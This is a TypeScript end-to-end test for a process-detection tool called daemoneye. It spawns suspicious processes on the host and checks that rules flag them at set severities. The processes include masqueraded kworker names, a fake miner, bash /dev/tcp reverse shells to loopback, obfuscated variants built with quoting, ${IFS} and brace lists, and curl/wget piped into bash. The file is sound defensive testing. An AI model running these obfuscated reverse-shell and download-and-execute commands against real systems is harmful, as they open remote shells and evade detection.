// End to end: real suspicious processes on this host and `daemoneye detect` on a live snapshot with the
// built-in pack: each process must be reported by the right rule at the right severity.
import {copyFileSync, unlinkSync} from 'node:fs';
import {join} from 'node:path';

import {afterAll, beforeAll, describe, expect, it} from 'vitest';

import type {Alert} from '../../src/models/alert.js';
import {isolatedEnv, removeDir, runCli, tempDir} from '../helpers/cli.js';
import {SuspectProcesses} from '../helpers/suspects.js';

const dir = tempDir();
const env = isolatedEnv(dir);
const suspects = new SuspectProcesses();

let deletedPid = 0;
let kworkerPid = 0;
let minerPid = 0;
let reverseShellPid = 0;
let escapedKworkerPid = 0;
let zeroWidthKworkerPid = 0;
let quotedShellPids: number[] = [];
let expandedShellPid = 0;
let normalizedShellPids: number[] = [];
let normalizedDownloadPids: number[] = [];
let alerts: Alert[] = [];

beforeAll(async () => {
  // 1. A copy of sleep run from a temp directory, then deleted.
  const dropped = join(dir, 'updater');
  copyFileSync('/usr/bin/sleep', dropped);
  deletedPid = await suspects.start(dropped, ['600']);
  unlinkSync(dropped);
  // 2. sleep started with argv[0] `[kworker/0:1]` (what `exec -a` does).
  kworkerPid = await suspects.start('/usr/bin/sleep', ['600'], {argv0: '[kworker/0:1]'});
  // 3. A miner-like process: a copy of sleep named xmrig whose argv carries a stratum pool.
  const miner = join(dir, 'xmrig');
  copyFileSync('/usr/bin/sleep', miner);
  minerPid = await suspects.start(miner, ['600'], {argv0: 'xmrig -o stratum+tcp://127.0.0.1:3333 --donate-level 1'});
  // 4. A bash reverse shell to a loopback listener.
  reverseShellPid = await suspects.reverseShell();
  // 5. The issue-22 evasions: an invisible escape sequence in front of the kworker name, a zero-width space after
  // it, and the reverse shell's literals split by bash's quoting ("", '', a backslash, ANSI-C $'\x2f').
  escapedKworkerPid = await suspects.start('/usr/bin/sleep', ['600'], {argv0: '\x1b[0m[kworker/0:2]'});
  zeroWidthKworkerPid = await suspects.start('/usr/bin/sleep', ['600'], {argv0: '[kworker/0:3]\u200b'});
  quotedShellPids = [
    await suspects.reverseShell({}, (port) => `bash -i >& /dev/t""cp/127.0.0.1/${port} 0>&1; true`),
    await suspects.reverseShell({}, (port) => `bash -i >& /dev/t''cp/127.0.0.1/${port} 0>&1; true`),
    await suspects.reverseShell({}, (port) => `bash -i >& /d\\ev/tc\\p/127.0.0.1/${port} 0>&1; true`),
    await suspects.reverseShell({}, (port) => `bash -i >& $'\\x2fdev\\x2ftcp'/127.0.0.1/${port} 0>&1; true`),
  ];
  // 6. Issue 22's expansions: reverse shells and downloads piped into bash whose words are spaced out by ${IFS},
  // written as brace lists, or split by $@, $(), empty backquotes or an unset variable. A bare environment, so
  // the variables are unset here as an attacker's are (and no proxy catches the loopback download).
  const bare = {env: {PATH: process.env.PATH ?? '/usr/bin:/bin'}};
  normalizedShellPids = [
    await suspects.reverseShell(bare, (port) => `{bash,-i}\${IFS}>&/dev/t$@cp/127.0.0.1/${port} 0>&1; true`),
    await suspects.reverseShell(bare, (port) => `bash\${IFS}-i >& /dev/tc\${__de_x}p/127.0.0.1/${port} 0>&1; true`),
    await suspects.reverseShell(bare, (port) => `bash -i >& /dev/t\`\`cp/127.0.0.1/${port} 0>&1; true`),
  ];
  normalizedDownloadPids = [
    await suspects.downloadAndRun((url) => `c$@url\${IFS}-fsS\${IFS}${url}|ba$()sh`, bare),
    await suspects.downloadAndRun((url) => `{wget,-qO-,${url}}|{bash,-s}`, bare),
  ];
  // 7. A reverse shell whose /dev/tcp is built by a variable: no command-line rule can read it.
  expandedShellPid = await suspects.reverseShell({}, (port) => `x=t; bash -i >& /dev/\${x}cp/127.0.0.1/${port} 0>&1; true`);

  const detect = await runCli(['detect', '--format', 'json', '--verbose', '--log-format', 'json'], {env, timeoutMs: 120_000});
  expect(detect.code, detect.stderr).toBe(0);
  const output = JSON.parse(detect.stdout) as {alerts: Alert[]; summary: {rules_loaded: number}};
  alerts = output.alerts;
  // The installed pack comes from the build-time index (dist/builtin-rules.json), not from parsing each file.
  const loaded = detect.stderr
    .split('\n')
    .filter((line) => line.startsWith('{'))
    .map((line) => JSON.parse(line) as {message: string; rules?: number; from_build_index?: number})
    .find((line) => line.message === 'rules loaded');
  expect(loaded).toMatchObject({rules: output.summary.rules_loaded, from_build_index: output.summary.rules_loaded});
}, 240_000);

afterAll(() => {
  suspects.stopAll();
  removeDir(dir);
});

function reported(ruleId: string, pid: number): Alert | undefined {
  return alerts.find((alert) => alert.rule_id === ruleId && alert.affected_processes.includes(pid));
}

describe('detect with the built-in rules on real suspicious processes', () => {
  it('reports the deleted binary in a temp directory (high) and its temp-dir location (medium)', () => {
    expect(reported('deleted-executable-suspicious-dir', deletedPid)?.severity).toBe('high');
    expect(reported('temp-dir-execution', deletedPid)?.severity).toBe('medium');
  });

  it('reports sleep posing as [kworker/0:1] (high)', () => {
    expect(reported('kernel-thread-masquerade', kworkerPid)?.severity).toBe('high');
  });

  it('reports the miner-like process (high)', () => {
    expect(reported('crypto-miner', minerPid)?.severity).toBe('high');
  });

  it('reports the /dev/tcp reverse shell (critical) and the shell reading from the socket (high)', () => {
    expect(reported('reverse-shell-command-line', reverseShellPid)?.severity).toBe('critical');
    const socketShell = alerts.find((alert) => alert.rule_id === 'shell-stdio-socket');
    expect(socketShell?.severity).toBe('high');
    const rows = (socketShell?.alert_data as {processes?: {ppid?: number; stdin?: string; stdout?: string}[]} | undefined)?.processes ?? [];
    const inner = rows.find((row) => row.ppid === reverseShellPid);
    expect(inner?.stdin).toMatch(/^socket:\[\d+\]$/);
    expect(inner?.stdout).toBe(inner?.stdin);
  });

  it('reports sleep posing as [kworker/0:2] behind an invisible escape sequence, and the escape itself (high)', () => {
    expect(reported('kernel-thread-masquerade', escapedKworkerPid)?.severity).toBe('high');
    const hidden = reported('invisible-characters-in-name', escapedKworkerPid);
    expect(hidden?.severity).toBe('high');
    const row = (hidden?.alert_data as {processes?: {pid: number; shown_argv0?: string}[]}).processes?.find((p) => p.pid === escapedKworkerPid);
    expect(row?.shown_argv0).toBe('[kworker/0:2]');
  });

  it('reports [kworker/0:3] followed by a zero-width space as a kernel-thread masquerade (high)', () => {
    expect(reported('kernel-thread-masquerade', zeroWidthKworkerPid)?.severity).toBe('high');
    expect(reported('invisible-characters-in-name', zeroWidthKworkerPid)?.severity).toBe('high');
  });

  it("reports the reverse shell whose /dev/tcp is split by \"\", '', backslashes or $'\\x2f' (critical)", () => {
    for (const pid of quotedShellPids) expect(reported('reverse-shell-command-line', pid)?.severity, String(pid)).toBe('critical');
  });

  it('reports the reverse shells written with ${IFS}, a brace list, $@, an unset ${x} or empty backquotes inside /dev/tcp (critical)', () => {
    for (const pid of normalizedShellPids) expect(reported('reverse-shell-command-line', pid)?.severity, String(pid)).toBe('critical');
  });

  it('reports the downloads piped into bash written as c$@url${IFS}…|ba$()sh and {wget,…}|{bash,-s} (medium)', () => {
    for (const pid of normalizedDownloadPids) expect(reported('download-and-execute', pid)?.severity, String(pid)).toBe('medium');
  });

  it('reports the shell on an outgoing TCP connection (critical), whatever the command line that started it says', () => {
    for (const outer of [reverseShellPid, expandedShellPid, ...quotedShellPids, ...normalizedShellPids]) {
      const alert = alerts.find(
        (a) => a.rule_id === 'reverse-shell-stdio-tcp' && ((a.alert_data as {processes?: {ppid?: number}[]}).processes ?? []).some((row) => row.ppid === outer),
      );
      expect(alert?.severity, String(outer)).toBe('critical');
    }
  });

  it('does not report the test runner itself', () => {
    expect(alerts.flatMap((alert) => alert.affected_processes)).not.toContain(process.pid);
  });
});
